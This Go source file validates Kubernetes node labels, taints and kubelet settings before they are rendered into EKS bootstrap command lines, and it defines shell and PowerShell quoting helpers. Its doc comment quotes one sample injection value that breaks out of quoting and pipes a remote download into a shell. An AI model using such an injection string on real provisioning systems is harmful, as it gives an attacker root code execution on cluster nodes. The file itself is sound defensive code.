package bootstrap

import (
	"fmt"
	"regexp"
	"strings"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	"k8s.io/apimachinery/pkg/util/validation"
)

// validate checks every label, taint and kubelet value that user data
// carries, before any of it is rendered: the flag-based families (AL2's
// bootstrap.sh, Windows' Start-EKSBootstrap.ps1) write them into a command
// line, and the others into kubelet flags. Requirement values and
// spec.kubelet's maps reach here without API-server validation, so a value
// such as `a' ; curl x | sh ; '` must fail the launch rather than run as
// root on the node. The quoting of al2.go and windows.go is the second line.
func (o resolved) validate() error {
	for _, l := range o.labels {
		if errs := validation.IsQualifiedName(l.key); len(errs) > 0 {
			return fmt.Errorf("node label key %q: %s", l.key, strings.Join(errs, "; "))
		}
		if errs := validation.IsValidLabelValue(l.value); len(errs) > 0 {
			return fmt.Errorf("node label %q value %q: %s", l.key, l.value, strings.Join(errs, "; "))
		}
	}
	for _, t := range o.taints {
		if errs := validation.IsQualifiedName(t.Key); len(errs) > 0 {
			return fmt.Errorf("taint key %q: %s", t.Key, strings.Join(errs, "; "))
		}
		if t.Value != "" {
			if errs := validation.IsValidLabelValue(t.Value); len(errs) > 0 {
				return fmt.Errorf("taint %q value %q: %s", t.Key, t.Value, strings.Join(errs, "; "))
			}
		}
		switch t.Effect {
		case corev1.TaintEffectNoSchedule, corev1.TaintEffectPreferNoSchedule, corev1.TaintEffectNoExecute:
		default:
			return fmt.Errorf("taint %q effect %q: want NoSchedule, PreferNoSchedule or NoExecute", t.Key, t.Effect)
		}
	}
	k := o.kubelet
	for name, m := range map[string]map[string]string{"kubeReserved": k.KubeReserved, "systemReserved": k.SystemReserved} {
		for key, v := range m {
			if !kubeletKey.MatchString(key) {
				return fmt.Errorf("kubelet %s key %q: want a resource name", name, key)
			}
			if _, err := resource.ParseQuantity(v); err != nil {
				return fmt.Errorf("kubelet %s[%s] %q: %w", name, key, v, err)
			}
		}
	}
	for name, m := range map[string]map[string]string{"evictionHard": k.EvictionHard, "evictionSoft": k.EvictionSoft} {
		for key, v := range m {
			if !kubeletKey.MatchString(key) {
				return fmt.Errorf("kubelet %s key %q: want an eviction signal", name, key)
			}
			if !percentage.MatchString(v) {
				if _, err := resource.ParseQuantity(v); err != nil {
					return fmt.Errorf("kubelet %s[%s] %q: want a quantity or a percentage", name, key, v)
				}
			}
		}
	}
	for key := range k.EvictionSoftGracePeriod { // values are re-rendered durations
		if !kubeletKey.MatchString(key) {
			return fmt.Errorf("kubelet evictionSoftGracePeriod key %q: want an eviction signal", key)
		}
	}
	return nil
}

var (
	// kubeletKey covers resource names (cpu, ephemeral-storage,
	// example.com/gpu) and eviction signals (memory.available).
	kubeletKey = regexp.MustCompile(`^[A-Za-z0-9]([A-Za-z0-9._/-]*[A-Za-z0-9])?$`)
	percentage = regexp.MustCompile(`^[0-9]+(\.[0-9]+)?%$`)
)

// shellQuote single-quotes s for a POSIX shell: a quote inside ends the
// string, adds an escaped quote and starts a new one.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// powershellQuote single-quotes s for PowerShell, which takes the typographic
// single quotes as quotes too; each is doubled inside the string.
func powershellQuote(s string) string {
	var b strings.Builder
	b.WriteByte('\'')
	for _, r := range s {
		switch r {
		case '\'', '\u2018', '\u2019', '\u201A', '\u201B':
			b.WriteRune(r)
		}
		b.WriteRune(r)
	}
	b.WriteByte('\'')
	return b.String()
}
